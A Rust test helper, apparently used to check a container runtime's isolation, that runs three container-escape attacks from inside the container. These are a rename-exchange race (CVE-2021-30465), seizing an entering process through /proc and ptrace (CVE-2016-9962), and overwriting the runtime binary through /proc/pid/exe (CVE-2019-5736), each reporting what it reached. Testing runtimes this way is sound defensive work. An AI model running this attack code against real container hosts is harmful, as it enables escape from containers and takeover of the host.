//! What tests run inside a container: system calls by number, and attacks that need more than a
//! shell. Prints what it got.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::fs::File;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

use rustix::fs::{CWD, RenameFlags, renameat_with};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args[1..] {
        ["errno", number] => println!("{}", errno(number.parse().unwrap())),
        ["user"] => println!("{}", rustix::process::geteuid()),
        ["exchange", one, other, seconds] => exchange(one, other, until(seconds)),
        ["seize", seconds] => seize(until(seconds)),
        ["overwrite", seconds] => overwrite(until(seconds)),
        _ => panic!("unknown attack {args:?}"),
    }
}

fn until(seconds: &str) -> Instant {
    Instant::now() + Duration::from_secs(seconds.parse().unwrap())
}

/// The error of a system call without arguments, 0 where it works.
fn errno(number: i64) -> i32 {
    // SAFETY: null pointers and zeros: no system call that a test names touches memory by them.
    let result = unsafe { libc::syscall(number, 0, 0, 0, 0, 0, 0) };
    match result {
        -1 => std::io::Error::last_os_error().raw_os_error().unwrap(),
        _ => 0,
    }
}

/// Swaps two names, over and over (CVE-2021-30465).
fn exchange(one: &str, other: &str, end: Instant) {
    while Instant::now() < end {
        renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).unwrap();
    }
}

fn processes() -> impl Iterator<Item = i32> {
    let own = i32::try_from(std::process::id()).unwrap();
    let entries = std::fs::read_dir("/proc").unwrap().flatten();
    let pids = entries.filter_map(|entry| entry.file_name().to_string_lossy().parse().ok());
    pids.filter(move |pid| *pid != own)
}

/// Whether a process is not yet the container's program.
fn is_shim(pid: i32) -> bool {
    std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|line| line.starts_with(b"joey-"))
}

/// Gets hold of a process that enters the container, before it is the container's (CVE-2016-9962):
/// by its descriptors, its working directory, its root, its memory, and by tracing it.
fn seize(end: Instant) {
    let (mut seen, mut won) = (BTreeSet::new(), BTreeSet::new());
    while Instant::now() < end {
        for pid in processes().filter(|pid| is_shim(*pid)) {
            seen.insert(pid);
            let got = reach(pid);
            // What was reached may have been the program already.
            if is_shim(pid) {
                won.extend(got);
            }
        }
    }
    println!("seen {}", seen.len());
    won.iter().for_each(|line| println!("{line}"));
}

/// What of a process can be had: a word and what it leads to.
fn reach(pid: i32) -> Vec<String> {
    let mut got = Vec::new();
    let open = std::fs::read_dir(format!("/proc/{pid}/fd"));
    for fd in open.into_iter().flatten().flatten() {
        if let Ok(target) = std::fs::read_link(fd.path()) {
            got.push(format!("fd {}", target.display()));
        }
    }
    let place = |path: &str| std::fs::metadata(path).map(|it| (it.dev(), it.ino()));
    let own = place("/").unwrap();
    for name in ["cwd", "root"] {
        if let Ok(found) = place(&format!("/proc/{pid}/{name}")) {
            let side = if found == own { "inside" } else { "outside" };
            got.push(format!("{name} {side}"));
        }
    }
    let memory = File::options()
        .read(true)
        .write(true)
        .open(format!("/proc/{pid}/mem"));
    if memory.is_ok() {
        got.push("mem open".to_owned());
    }
    // SAFETY: attaching without options takes no pointer that is read or written.
    if unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0 {
        got.push("trace attached".to_owned());
    }
    got
}

/// Writes to the program that the runtime runs (CVE-2019-5736), through every process it can see.
fn overwrite(end: Instant) {
    let (mut seen, mut won) = (0, 0);
    while Instant::now() < end {
        for pid in processes() {
            let path = format!("/proc/{pid}/exe");
            let link = std::fs::read_link(&path).unwrap_or_default();
            if !link.to_string_lossy().contains("joey-shim") {
                continue;
            }
            let Ok(held) = File::open(&path) else {
                continue;
            };
            seen += 1;
            let again = format!("/proc/self/fd/{}", held.as_raw_fd());
            let patience = Instant::now() + Duration::from_millis(20);
            while Instant::now() < patience {
                let opened = File::options().write(true).open(&again);
                if let Ok(mut program) = opened
                    && std::io::Write::write(&mut program, b"#!/bin/evil\n").is_ok()
                {
                    won += 1;
                }
            }
        }
    }
    println!("seen {seen}");
    println!("won {won}");
}
